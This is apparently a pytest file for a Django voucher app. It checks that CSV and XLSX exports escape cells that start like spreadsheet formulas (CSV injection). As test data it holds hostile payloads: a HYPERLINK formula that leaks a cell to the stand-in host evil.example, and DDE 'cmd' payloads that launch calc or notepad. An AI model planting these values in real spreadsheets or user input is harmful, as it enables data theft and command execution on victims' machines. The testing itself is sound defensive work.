"""Every CSV and XLSX export: a cell a spreadsheet would run as a formula is written as
text (OWASP "CSV injection"), while amounts stay numbers."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

import kivoucher
from kivoucher.compute.services.ingest import usage_ingest
from kivoucher.compute.services.settlement import statement_create
from kivoucher.core.roles import Role
from kivoucher.core.spreadsheet import FORMULA_START, cell_safe, csv_writer, xlsx_row
from kivoucher.presale.models import Offer
from kivoucher.reporting.dashboard import dashboard_build
from kivoucher.reporting.filters import ReportFilter
from kivoucher.reporting.public import public_statistics
from tests.compute.factories import compute_call, issue, make_data_centre, operator_of
from tests.factories import OrganisationFactory, ProgrammeFactory, UserFactory, make_call
from tests.presale.factories import make_offer
from tests.reporting.factories import commit, company, grant

pytestmark = pytest.mark.django_db

HOSTILE = {
    "programme": '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "call": "+cmd|' /C calc'!A0",
    "company": "=cmd|' /C notepad'!A0",
    "record": "@SUM(1+1)*cmd|' /C calc'!A0",
    "offer": "-2+3+cmd|' /C calc'!A0",
}
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


@pytest.mark.parametrize(
    "value", [*HOSTILE.values(), "\tTab", "\rReturn", "=1+1", "-", "@", "+49 30 123"]
)
def test_a_text_cell_that_starts_like_a_formula_is_made_text(value):
    assert cell_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        Decimal("-12.50"),
        -3,
        1.5,
        None,
        "-12.50",
        "+7",
        "12",
        "NeuroForge AI GmbH",
        "",
        "a=b",
        " =x",
    ],
)
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert cell_safe(value) == value


def test_the_writers_neutralise_every_cell_and_keep_numbers():
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerows(
        [["=1+1", Decimal("-5.00"), "-5.00"], ["@x", 3, "ok"]]
    )
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-5.00", "-5.00"],
        ["'@x", "3", "ok"],
    ]
    assert xlsx_row(["=1+1", Decimal("-5.00")]) == ["'=1+1", Decimal("-5.00")]


def _unsafe(cells) -> list[str]:
    return [
        c
        for c in cells
        if isinstance(c, str) and c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)
    ]


def _csv_cells(response) -> list:
    assert response.status_code == 200, response
    text = b"".join(response.streaming_content) if response.streaming else response.content
    return [c for row in csv.reader(io.StringIO(text.decode())) for c in row]


def _xlsx_cells(response) -> list:
    assert response.status_code == 200, response
    book = load_workbook(io.BytesIO(response.content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                cells.append(c.value)
    return cells


@pytest.fixture
def hostile_world():
    """Names and ids as a company, a data centre or staff could enter them."""
    programme = ProgrammeFactory(name=HOSTILE["programme"])
    call = make_call(programme=programme, name=HOSTILE["call"], budget=Decimal("80000.00"))
    commit(call, "20000.00", "h1")
    for i, state in enumerate(["BY", "BY", "HE", "NW"]):
        grant(programme, company(state), "10000.00", f"h{i}")
    # Line II: a settled usage record with a hostile id of a hostile company, and its reversal.
    dc = make_data_centre("dc-hostile")
    voucher = issue(dc, company=OrganisationFactory(name=HOSTILE["company"]), call=compute_call())
    end = timezone.now().replace(microsecond=0) - timedelta(days=2)
    usage = {
        "voucher": voucher.code,
        "resource": "h100-80gb",
        "start": (end - timedelta(hours=1)).isoformat(),
        "end": end.isoformat(),
    }
    usage_ingest(data_centre=dc, records=[{"id": HOSTILE["record"], "quantity": "4", **usage}])
    usage_ingest(data_centre=dc, records=[{"id": "=rev", "reverses": HOSTILE["record"]}])
    statement = statement_create(
        actor=None,
        data_centre=dc,
        period_start=end.date(),
        period_end=timezone.localdate() - timedelta(days=1),
    )
    assert statement.record_count == 2
    # Line III: an offer with a hostile title.
    offer = make_offer(code="hostile")
    Offer.objects.filter(pk=offer.pk).update(title=HOSTILE["offer"])
    return {"statement": statement, "operator": operator_of(dc)}


def _dashboard_keys() -> list[str]:
    outcomes = dashboard_build(report_filter=ReportFilter())
    return [t.key for o in outcomes if o.result for t in o.result.all_tables()]


def _dashboard_tables_csv(client_for, world):
    staff = client_for(UserFactory(role=Role.PROGRAMME_ADMIN))
    return [
        c for k in _dashboard_keys() for c in _csv_cells(staff.get(f"/reporting/export/{k}.csv"))
    ]


def _dashboard_tables_xlsx(client_for, world):
    staff = client_for(UserFactory(role=Role.PROGRAMME_ADMIN))
    return [
        c for k in _dashboard_keys() for c in _xlsx_cells(staff.get(f"/reporting/export/{k}.xlsx"))
    ]


def _dashboard_all_xlsx(client_for, world):
    staff = client_for(UserFactory(role=Role.PROGRAMME_ADMIN))
    return _xlsx_cells(staff.get("/reporting/export/all.xlsx"))


def _statistics_csv(client_for, world):
    keys = [t.key for t in public_statistics().tables]
    return [c for k in keys for c in _csv_cells(Client().get(f"/statistics/{k}.csv"))]


def _settlement_csv(client_for, world):
    operator = client_for(world["operator"])
    return _csv_cells(operator.get(f"/compute/statements/{world['statement'].pk}/csv/"))


EXPORTS = {
    "dashboard-table-csv": (_dashboard_tables_csv, ["programme", "call", "offer"]),
    "dashboard-table-xlsx": (_dashboard_tables_xlsx, ["programme", "call", "offer"]),
    "dashboard-all-xlsx": (_dashboard_all_xlsx, ["programme", "call", "offer"]),
    "statistics-csv": (_statistics_csv, ["programme"]),
    "settlement-csv": (_settlement_csv, ["company", "record"]),
}


@pytest.mark.parametrize("export", EXPORTS)
def test_no_export_writes_a_cell_that_starts_like_a_formula(export, hostile_world, client_for):
    build, planted = EXPORTS[export]
    cells = build(client_for, hostile_world)
    assert _unsafe(cells) == []
    for key in planted:  # the hostile text is there, as text
        assert "'" + HOSTILE[key] in cells, (export, key)


def test_settlement_csv_keeps_negative_amounts_as_numbers(hostile_world, client_for):
    operator = client_for(hostile_world["operator"])
    response = operator.get(f"/compute/statements/{hostile_world['statement'].pk}/csv/")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    reversal = next(r for r in rows if r["record_id"] == "'=rev")
    assert reversal["reverses"] == "'" + HOSTILE["record"]
    assert reversal["amount"] == "-10.00" and Decimal(reversal["amount"]) < 0


SRC = Path(kivoucher.__file__).parent


def test_every_csv_and_xlsx_writer_goes_through_core_spreadsheet():
    """A new export that writes with `csv.writer` or openpyxl directly fails here."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "spreadsheet.py" or "migrations" in path.parts:
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(f"{path.relative_to(SRC)}: csv")
        if "openpyxl" in text and "xlsx_row" not in text:
            offenders.append(f"{path.relative_to(SRC)}: openpyxl")
    assert offenders == []
